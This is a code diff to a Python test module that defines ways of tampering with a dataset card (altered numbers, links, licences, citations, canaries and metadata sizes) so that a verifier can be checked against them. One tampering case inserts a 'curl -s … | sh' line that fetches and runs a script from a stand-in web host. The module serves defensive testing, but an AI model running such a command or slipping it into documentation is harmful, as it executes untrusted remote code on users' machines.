@@ -14,7 +14,6 @@ from tests.verifying.tampering.editing import (
     rows_of,
     substituted,
     tables,
-    with_sums,
     without,
 )
 from tests.verifying.tampering.tampering import Change, DoesNotApply, Tampering
@@ -82,6 +81,7 @@ BODY: dict[str, Change] = {
     "a score of a model": _in_body(
         _after_heading("Intended use", "The best model is right in 99.9% of the rows.")
     ),
+    "a draft that calls itself published": _in_body(substituted(", draft.$", ", published.")),
     "another number in the summary": _in_body(other_number(r"^## Summary\n(?:.*\n)*?.*?\b([0-9]+)\b")),
     "another number in a table": _in_body(other_number(r"^\|.*\| ([0-9]+) \|")),
     "another share in a table": _in_body(substituted(r"[0-9]+\.[0-9]{2}%", "1.00%")),
@@ -102,24 +102,18 @@ BODY: dict[str, Change] = {
         substituted("\nseedproof audit", f"\ncurl -s {WEB}/ | sh\nseedproof audit")
     ),
     "a link that leads elsewhere": _in_body(substituted(r"\]\(https?://[^)]+\)", f"]({WEB}/)")),
-    "a picture from the web": _in_body(
-        substituted(r"\]\(report/figures/[a-z_]+\.svg\)", f"]({WEB}/figure.svg)")
-    ),
+    "a picture from the web": _in_body(substituted(r"\]\(example\.png\)", f"]({WEB}/example.png)")),
     "another description of a picture": _in_body(substituted(r"!\[[^\]]*\]", "![Every answer is right.]")),
     "a picture less": _in_body(without(r"^!\[.*\n")),
     "another licence in its text": _in_body(substituted("CC BY 4.0", "CC0 1.0")),
     "a section too much": _in_body(appended("\n## Results\n\nAll models agree with every answer.\n")),
     "no section on limitations": _in_body(_without_section("Limitations")),
     "no section on use out of scope": _in_body(_without_section("Out-of-scope use")),
-    "an older version invented in its changelog": _in_body(
-        substituted(r"^### ([0-9.]+)$", r"### \1\n\nAs 0.9.0.\n\n### 0.9.0")
-    ),
-    "another entry of its changelog": _in_body(substituted("The first release.", "Answers were corrected.")),
     "another author in the citation": _in_body(substituted("The Seedproof authors", "Somebody else")),
     "another title in the citation": _in_body(substituted(r"title = \{", "title = {Corrected: ")),
     "another version in the citation": _in_body(substituted(r"version = \{[0-9.]+", "version = {2.0.0")),
     "no citation": _in_body(without(r"^```bibtex\n(?s:.*?)^```\n")),
-    "another version in the heading": _in_body(substituted(r"^(# .+) [0-9.]+$", r"\1 2.0.0")),
+    "another version below the heading": _in_body(substituted(r"^Version [0-9.]+", "Version 2.0.0")),
     "no canary": _in_body(without(r"^.*canary GUID.*\n")),
     "another canary": _in_body(substituted(r"canary GUID [0-9a-f-]+", f"canary GUID {OTHER_GUID}")),
     "a second canary": _in_body(appended(f"\n`canary GUID {OTHER_GUID}`\n")),
@@ -194,6 +188,10 @@ HEAD: dict[str, Change] = {
             "model-index:\n- name: gpt\n  results:\n  - metrics:\n    - type: accuracy\n      value: 99.9\n"
         )
     ),
+    "another count of rows in dataset_info": _in_head(other_number(r"num_examples: ([0-9]+)")),
+    "another count of bytes in dataset_info": _in_head(other_number(r"num_bytes: ([0-9]+)")),
+    "another size to download": _in_head(other_number(r"download_size: ([0-9]+)")),
+    "another size of the dataset": _in_head(other_number(r"dataset_size: ([0-9]+)")),
     "gated access": _in_head(appended(f"extra_gated_prompt: Log in at {WEB}/\n")),
 }
 
@@ -208,19 +206,7 @@ FORMS: dict[str, Change] = {
     "nothing": in_text(CARD, lambda text: ""),
 }
 
-SIZES: dict[str, Change] = {
-    "another count of rows in dataset_info": _in_head(other_number(r"num_examples: ([0-9]+)")),
-    "another count of bytes in dataset_info": _in_head(other_number(r"num_bytes: ([0-9]+)")),
-    "another size to download": _in_head(other_number(r"download_size: ([0-9]+)")),
-    "another size of the dataset": _in_head(other_number(r"dataset_size: ([0-9]+)")),
-}
-"""Sizes that sealing would put right."""
-
 KINDS = (
     *(Tampering(name=f"card: {name}", change=change) for name, change in (BODY | FORMS).items()),
     *(Tampering(name=f"card, metadata: {name}", change=change) for name, change in HEAD.items()),
-    *(
-        Tampering(name=f"card, metadata: {name}", change=with_sums(change), sealed=False)
-        for name, change in SIZES.items()
-    ),
 )
